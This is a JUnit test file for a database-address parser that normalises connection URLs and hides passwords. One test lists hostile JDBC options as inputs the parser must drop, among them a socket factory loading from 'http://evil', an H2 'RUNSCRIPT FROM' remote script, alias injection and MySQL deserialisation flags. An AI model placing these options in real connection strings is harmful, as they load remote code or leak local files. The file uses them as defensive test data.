package dev.pegboard.engine.db.address;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.pegboard.base.Fault;
import dev.pegboard.fixture.Seed;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Reads addresses as people write them, in every form, and with every mistake they make. */
class AddressTextTest {
    private static final Path HOME = Path.of("/projects/shop");

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "postgres://me:secret@db.example:5433/shop        | postgresql://db.example:5433/shop",
                "postgresql://localhost/shop                      | postgresql://localhost/shop",
                "postgresql+psycopg2://me:secret@localhost/shop   | postgresql://localhost/shop",
                "POSTGRES://LOCALHOST/shop                        | postgresql://LOCALHOST/shop",
                "postgis://me:secret@localhost/shop               | postgresql://localhost/shop",
                "pdo-pgsql://me:secret@localhost/shop             | postgresql://localhost/shop",
                "postgresql://[::1]:5433/shop                     | postgresql://::1:5433/shop",
                "postgresql:///shop                               | postgresql://localhost/shop",
                "postgresql:///shop?host=/var/run/postgresql      | postgresql://localhost/shop",
                "postgres://me@%2Fvar%2Frun/shop                  | postgresql://localhost/shop",
                "ecto://postgres:secret@localhost/shop_dev        | postgresql://localhost/shop_dev",
                "r2dbc:postgresql://localhost:5432/shop           | postgresql://localhost:5432/shop",
                "r2dbc:pool:mysql://localhost/shop                | mysql://localhost/shop",
                "vertx-reactive:postgresql://localhost/shop       | postgresql://localhost/shop",
                "mysql://root:secret@127.0.0.1:3307/shop          | mysql://127.0.0.1:3307/shop",
                "mysql2://root@localhost/shop                     | mysql://localhost/shop",
                "mysql+pymysql://root@localhost/shop              | mysql://localhost/shop",
                "mariadb://root@localhost/shop                    | mariadb://localhost/shop",
                "sqlserver://sa:secret@localhost:1433/shop        | sqlserver://localhost:1433/shop",
                "mssql://sa:secret@localhost/shop                 | sqlserver://localhost/shop",
                "cockroachdb://root@localhost:26257/bank          | cockroachdb://localhost:26257/bank",
                "oracle://scott:tiger@localhost:1521/orcl         | oracle://localhost:1521/orcl",
                "clickhouse://default@localhost:8123/logs         | clickhouse://localhost:8123/logs",
                "trino://me@localhost:8080/hive/sales             | trino://localhost:8080/hive",
                "snowflake://me:secret@acme-eu/shop/public        | snowflake://acme-eu/shop",
                "yugabytedb://yugabyte@localhost:5433/shop        | yugabytedb://localhost:5433/shop",
                "sqlite:///data/shop.db                           | sqlite:/projects/shop/data/shop.db",
                "sqlite:////srv/shop.db                           | sqlite:/srv/shop.db",
                "sqlite://data/shop.db                            | sqlite:/projects/shop/data/shop.db",
                "sqlite:data/shop.db?cache=shared                 | sqlite:/projects/shop/data/shop.db",
                "sqlite+aiosqlite:///./shop.db                    | sqlite:/projects/shop/shop.db",
                "sqlite3:db/development.sqlite3                   | sqlite:/projects/shop/db/development.sqlite3",
                "file:./dev.db?connection_limit=1                 | sqlite:/projects/shop/dev.db",
                "duckdb:///data/shop.duckdb                       | duckdb:/projects/shop/data/shop.duckdb",
                "root:secret@tcp(127.0.0.1:3306)/shop?parseTime=true | mysql://127.0.0.1:3306/shop",
                "mysql:host=localhost;port=3307;dbname=shop       | mysql://localhost:3307/shop",
                "pgsql:host=localhost;dbname=shop                 | postgresql://localhost/shop",
                "host=localhost port=5433 dbname=shop user=me password='a b' | postgresql://localhost:5433/shop",
                "dbname=shop                                      | postgresql://localhost/shop",
            })
    void everyKindOfUrlIsUnderstood(String text, String shown) {
        assertThat(parsed(text).shown()).isEqualTo(shown);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:postgresql://localhost:5432/shop?user=me&password=secret | postgresql://localhost:5432/shop",
                "jdbc:postgresql:shop                                | postgresql://localhost/shop",
                "jdbc:postgresql://localhost/                        | postgresql://localhost/",
                "jdbc:p6spy:mysql://localhost/shop                   | mysql://localhost/shop",
                "jdbc:mysql:loadbalance://localhost:3306/shop        | mysql://localhost:3306/shop",
                "jdbc:mariadb://localhost:3306/shop                  | mariadb://localhost:3306/shop",
                "jdbc:sqlserver://localhost:1433;databaseName=shop;user=sa;password={a;b} | sqlserver://localhost:1433/shop",
                "jdbc:sqlserver://localhost\\SQLEXPRESS:1433;database=shop | sqlserver://localhost:1433/shop",
                "jdbc:jtds:sqlserver://localhost:1433/shop;user=sa   | sqlserver://localhost:1433/shop",
                "jdbc:sqlite:shop.db                                 | sqlite:/projects/shop/shop.db",
                "jdbc:sqlite:/srv/shop.db                            | sqlite:/srv/shop.db",
                "jdbc:duckdb:shop.duckdb                             | duckdb:/projects/shop/shop.duckdb",
                "jdbc:h2:file:./data/shop;AUTO_SERVER=TRUE           | h2:/projects/shop/data/shop.mv.db",
                "jdbc:h2:./data/shop                                 | h2:/projects/shop/data/shop.mv.db",
                "jdbc:h2:tcp://localhost:9092/~/shop                 | h2://localhost:9092/~/shop",
                "jdbc:oracle:thin:@//localhost:1521/XEPDB1           | oracle://localhost:1521/XEPDB1",
                "jdbc:oracle:thin:@localhost:1521:ORCL               | oracle://localhost:1521/ORCL",
                "jdbc:oracle:thin:scott/secret@localhost:1521/XE     | oracle://localhost:1521/XE",
                "jdbc:clickhouse://localhost:8123/logs               | clickhouse://localhost:8123/logs",
                "jdbc:trino://localhost:8080/hive/sales              | trino://localhost:8080/hive",
                "jdbc:yugabytedb://localhost:5433/shop               | yugabytedb://localhost:5433/shop",
                "jdbc:snowflake://acme.snowflakecomputing.com/?db=shop | snowflake://acme.snowflakecomputing.com/",
                "jdbc:db2://localhost:50000/shop:user=me;password=secret; | db2://localhost:50000/shop",
            })
    void everyKindOfJdbcUrlIsUnderstood(String text, String shown) {
        assertThat(parsed(text).shown()).isEqualTo(shown);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "Server=localhost,1434;Database=shop;User Id=sa;Password=x;TrustServerCertificate=True | sqlserver://localhost:1434/shop",
                "Server=tcp:acme.database.windows.net,1433;Initial Catalog=shop;User ID=me;Password=x | sqlserver://acme.database.windows.net:1433/shop",
                "Data Source=.;Initial Catalog=shop;Integrated Security=True | sqlserver://localhost/shop",
                "Host=localhost;Port=5433;Database=shop;Username=me;Password=x | postgresql://localhost:5433/shop",
                "Server=localhost;Port=3306;Database=shop;Uid=root;Pwd=x; | mysql://localhost:3306/shop",
                "Data Source=app.db | sqlite:/projects/shop/app.db",
                "DataSource=data/app.sqlite;Cache=Shared | sqlite:/projects/shop/data/app.sqlite",
                "User Id=me;Password=x;Data Source=localhost:1521/XEPDB1 | oracle://localhost:1521/XEPDB1",
                "Driver={ODBC Driver 18 for SQL Server};Server=db;Database=shop;UID=sa;PWD={a;b}} | sqlserver://db/shop",
            })
    void connectionStringsAreUnderstood(String text, String shown) {
        assertThat(parsed(text).shown()).isEqualTo(shown);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "postgres://me:p%40ss%2Fw%3Ard@localhost/shop     | me      | p@ss/w:rd",
                "postgres://me:p@ss@localhost/shop                | me      | p@ss",
                "postgres://me:p@ss/word@localhost/shop?a=b@c     | me      | p@ss/word",
                "postgres://me:p#ss?w@localhost/shop              | me      | p#ss?w",
                "postgres://me:p@ss?w=1@localhost/shop            | me      | p@ss?w=1",
                "postgres://me:p@ss/w?x@localhost/shop            | me      | p@ss/w?x",
                "postgres://me:1?2@localhost/shop                 | me      | 1?2",
                "postgres://me:1#2@localhost/shop                 | me      | 1#2",
                "postgres://me:12/34@localhost/shop               | me      | 12/34",
                "postgres://me:p@s:s/w#r?d@localhost:5432/shop    | me      | p@s:s/w#r?d",
                "postgres://me:100%@localhost/shop                | me      | 100%",
                "postgres://me:%zz@localhost/shop                 | me      | %zz",
                "postgres://me:a:b:c@localhost/shop               | me      | a:b:c",
                "postgres://m%C3%A4x:s%C3%BC%C3%9F@localhost/shop | mäx     | süß",
                "postgres://me%40corp:x+y@localhost/shop          | me@corp | x+y",
                "jdbc:mysql://localhost/shop?user=me&password=a%26b | me    | a&b",
                "jdbc:oracle:thin:scott/tiger@localhost:1521/XE   | scott   | tiger",
                "jdbc:db2://localhost:50000/shop:user=me;password=secret; | me | secret",
                "jdbc:trino://localhost/hive?user=joe&password=s3c | joe     | s3c",
                "jdbc:sqlserver://localhost;user=sa;password={a;b}}c} | sa  | a;b}c",
                "Host=db;Database=shop;Username=me;Password=\"a;b\"\"c\" | me | a;b\"c",
                "host=db dbname=shop user=me password='it\\'s'    | me      | it's",
                "me:p@ss:word@tcp(db:3306)/shop                   | me      | p@ss:word",
            })
    void loginsComeOutAsTheyWereMeant(String text, String user, String password) {
        Address address = parsed(text);
        assertThat(address.user()).hasValue(user);
        assertThat(address.password().map(Password::reveal)).hasValue(password);
        assertThat(address.host()).hasValueSatisfying(host -> assertThat(host).isIn("localhost", "db"));
        assertThat(address.jdbcUrl().orElse("")).doesNotContain(password, user);
        assertThat(address.toString()).doesNotContain(password);
    }

    @Test
    void anAtSignInAnOptionIsNoLogin() {
        Address address = parsed("postgres://localhost:5432/shop?user=me@corp&sslmode=require");
        assertThat(address.shown()).isEqualTo("postgresql://localhost:5432/shop");
        assertThat(address.user()).hasValue("me@corp");
        assertThat(parsed("postgres://me:x@localhost?application_name=a@b").host())
                .hasValue("localhost");
    }

    @Test
    void anIdentityHasAllButSecrets() {
        assertThat(parsed("postgres://a%40b:canary@localhost:5432/shop?sslmode=require&schema=x")
                        .identity())
                .isEqualTo("postgresql://a%40b@localhost:5432/shop?schema=x&sslmode=require");
        assertThat(parsed("postgres://localhost/shop?sslpassword=canary").identity())
                .endsWith("?sslpassword=***");
        assertThat(parsed("sqlite:///shop.db").identity()).isEqualTo("sqlite:" + HOME.resolve("shop.db"));
        assertThat(parsed("postgresql://me:canary@one,two/shop").identity())
                .isNotEqualTo(parsed("postgresql://me:canary@one,three/shop").identity())
                .doesNotContain("canary");
    }

    @Test
    void optionsAreKept() {
        assertThat(parsed("postgresql://localhost/shop?schema=sales&sslmode=require")
                        .options())
                .isEqualTo(Map.of("schema", "sales", "sslmode", "require"));
        assertThat(parsed("trino://me@localhost/hive/sales").options()).isEqualTo(Map.of("schema", "sales"));
        assertThat(parsed("jdbc:h2:./shop;MODE=PostgreSQL").options()).isEqualTo(Map.of("MODE", "PostgreSQL"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://localhost/shop?socketFactory=evil.Loader&socketFactoryArg=http://evil",
                "jdbc:postgresql://localhost/shop?loggerFile=/tmp/evil&preferQueryMode=simple",
                "jdbc:mysql://localhost/shop?autoDeserialize=true&queryInterceptors=evil&allowLoadLocalInfile=true",
                "jdbc:mysql://localhost/shop?allowMultiQueries=true",
                "jdbc:h2:./shop;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2:./shop;TRACE_LEVEL_SYSTEM_OUT=3\\;CREATE ALIAS EVIL AS 'x'",
                "jdbc:sqlite:shop.db?enable_load_extension=true",
                "jdbc:sqlserver://localhost;trustManagerClass=evil;jaasConfigurationName=evil",
            })
    void optionsThatCouldDoHarmAreLeftOut(String text) {
        assertThat(parsed(text).options()).isEmpty();
    }

    @Test
    void harmfulOptionsOfOtherEnginesAreTakenOutOfTheirUrl() {
        Address address = parsed("jdbc:trino://localhost:8080/hive?SSL=true&accessToken=abc&extraInitScript=evil");
        assertThat(address.jdbcUrl()).hasValue("jdbc:trino://localhost:8080/hive?SSL=true");
        assertThat(address.options()).isEqualTo(Map.of("accessToken", "abc"));
    }

    @Test
    void severalHostsStayInTheEnginesOwnWords() {
        Address address = parsed("postgresql://me:secret@one:5432,two:5433/shop");
        assertThat(address.jdbcUrl()).hasValue("jdbc:postgresql://one:5432,two:5433/shop");
        assertThat(address.host()).hasValue("one");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "hello",
                "https://example.org/x",
                "redis://localhost:6379",
                "mongodb://localhost/shop",
                "amqp://me:x@localhost",
                "localhost:6379",
                "jdbc:",
                "jdbc:x",
                "key=value",
                "a=b;c=d",
                "://",
                "@tcp(",
                "Endpoint=sb://acme.servicebus.windows.net/;SharedAccessKey=x",
                "C:\\data\\x.db",
                "a\nb"
            })
    void whatIsNoAddressIsNone(String text) {
        assertThat(AddressText.parse(text, HOME)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "postgres://localhost:99999/shop,port",
        "postgres://localhost:99999/shop,percent-encoded",
        "postgres://lo cal/shop,percent-encoded",
        "postgres://localhost:abc/shop,port",
        "postgres://lo cal/shop,host",
        "sqlite::memory:,memory",
        "sqlite://,memory",
        "jdbc:h2:mem:test,memory",
        "file:memdb?mode=memory,memory",
        "jdbc:tc:postgresql:16:///shop,Testcontainers",
        "Server=(localdb)\\mssqllocaldb;Database=x;Trusted_Connection=True,LocalDB",
    })
    void whatCannotBeUsedSaysWhy(String text, String word) {
        assertThatThrownBy(() -> AddressText.parse(text, HOME))
                .isInstanceOf(Fault.class)
                .hasMessageContaining(word);
    }

    @Test
    void noTextMakesItFailOtherwise() {
        Seed seed = Seed.random();
        Random dice = seed.dice(1);
        List<String> scraps = List.of(
                "postgres",
                "jdbc:",
                "mysql",
                "sqlite",
                "h2:",
                "oracle:thin:",
                "://",
                ":",
                "/",
                "@",
                "?",
                "#",
                "%",
                "%4",
                "[",
                "]",
                "::1",
                "localhost",
                "99999",
                "5432",
                ";",
                "=",
                "&",
                "{",
                "}",
                "(",
                ")",
                "'",
                "\"",
                "\\",
                ",",
                "password",
                "user",
                "host",
                "Data Source",
                "tcp:",
                "~",
                "..",
                "ü",
                "\ud83d",
                "$",
                "sqlserver",
                "@tcp(");
        for (int i = 0; i < 100_000; i++) {
            StringBuilder text = new StringBuilder();
            for (int j = dice.nextInt(12); j >= 0; j--) {
                text.append(scraps.get(dice.nextInt(scraps.size())));
            }
            try {
                AddressText.parse(text.toString(), HOME);
            } catch (Fault expected) {
                assertThat(expected.message()).isNotEmpty();
            } catch (RuntimeException e) {
                throw new AssertionError(seed + " " + text, e);
            }
        }
    }

    private static Address parsed(String text) {
        Optional<Address> address = AddressText.parse(text, HOME);
        assertThat(address).isPresent();
        return address.orElseThrow();
    }
}
